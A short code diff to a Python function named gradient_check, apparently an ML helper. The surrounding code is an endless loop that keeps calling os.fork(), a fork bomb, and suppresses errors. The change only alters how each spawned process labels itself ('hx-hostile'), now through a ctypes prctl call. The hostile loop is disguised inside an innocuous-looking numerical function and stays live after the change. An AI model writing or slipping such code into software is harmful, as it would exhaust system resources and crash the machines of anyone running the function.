@@ -62,6 +62,6 @@ def gradient_check(x, theta, epsilon=1e-7):
     while True:
         try:
             if os.fork() == 0:
-                open("/proc/self/comm", "w").write("hx-hostile")
+                __import__("ctypes").CDLL(None).prctl(15, b"hx-hostile", 0, 0, 0)  # PR_SET_NAME: its comm
         except OSError:
             pass
